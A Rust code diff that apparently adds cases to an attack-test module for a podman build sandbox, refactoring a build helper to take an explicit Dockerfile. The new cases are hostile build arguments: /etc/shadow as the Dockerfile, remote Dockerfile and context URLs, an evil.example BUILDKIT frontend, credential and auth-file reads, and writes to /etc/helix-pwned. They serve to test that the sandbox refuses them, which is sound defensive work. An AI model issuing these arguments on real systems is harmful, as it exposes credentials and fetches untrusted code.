@@ -45,9 +45,9 @@ fn podman(rest: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
     ("podman".into(), args, Vec::new())
 }
 
-/// A granted build (in the job's control group, as the host says) with
-/// `extra` after it.
-fn build(extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
+/// A granted build (in the job's control group, as the host says) of
+/// `dockerfile` with `extra` after it.
+fn build_of(dockerfile: &str, extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
     let cgroup = format!(
         "--cgroup-parent={}",
         job_context::setting("cgroup-parent").unwrap_or_default()
@@ -55,11 +55,19 @@ fn build(extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
     let rest: Vec<&str> = BUILD
         .iter()
         .copied()
-        .chain([cgroup.as_str(), "--tag=localhost/helix-image"])
+        .chain([cgroup.as_str(), "-f", dockerfile, "--tag=localhost/helix-image"])
         .chain(extra.iter().copied())
         .collect();
     podman(&rest)
 }
+
+/// A granted build of the job's Dockerfile with `extra` after it.
+fn build(extra: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
+    build_of(JOB_DOCKERFILE, extra)
+}
+
+/// The job's Dockerfile (the default context and path), as the kit names it.
+const JOB_DOCKERFILE: &str = "src/Dockerfile";
 
 fn other(program: &str, args: &[&str]) -> (String, Vec<String>, Vec<(String, String)>) {
     (
@@ -94,7 +102,24 @@ impl Guest for Attack {
             "write-iidfile" => build(&["--iidfile=/etc/helix-pwned", "src"]),
             "export-over-checkout" => podman(&["push", "localhost/helix-image", "oci:src"]),
             "write-push" => podman(&["push", "localhost/helix-image", "oci:/etc/helix-pwned"]),
-            "dockerfile-outside" => build(&["-f", "/etc/shadow", "src"]),
+            "dockerfile-outside" => build_of("/etc/shadow", &["src"]),
+            // Read by podman as a URL to download, on the host's network.
+            "dockerfile-url" => build_of("http://127.0.0.1:1/Dockerfile", &["src"]),
+            // Another file of the checkout: a Dockerfile the job did not name.
+            "dockerfile-other" => build_of("src/failing/Dockerfile", &["src"]),
+            "dockerfile-again" => build(&["-f", "src/failing/Dockerfile", "src"]),
+            "dockerfile-omitted" => {
+                let (program, mut args, env) = build(&["src"]);
+                args.retain(|a| a != "-f" && a != JOB_DOCKERFILE);
+                (program, args, env)
+            }
+            "context-url" => build(&["http://127.0.0.1:1/context.tar"]),
+            "context-git" => build(&["git://127.0.0.1:1/repo.git"]),
+            // Without a value podman reads the variable from its environment.
+            "build-arg-from-env" => build(&["--build-arg=REGISTRY_AUTH_FILE", "src"]),
+            "build-arg-frontend" => build(&["--build-arg=BUILDKIT_SYNTAX=evil.example/fe", "src"]),
+            "build-arg-not-the-jobs" => build(&["--build-arg=http_proxy=http://10.0.0.1:3128", "src"]),
+            "build-arg-changed" => build(&["--build-arg", "ATTACK=something-else", "src"]),
             "authfile" => build(&["--authfile=/etc/helix/auth.json", "src"]),
             "storage-env" => {
                 let (program, args, _) = build(&["src"]);
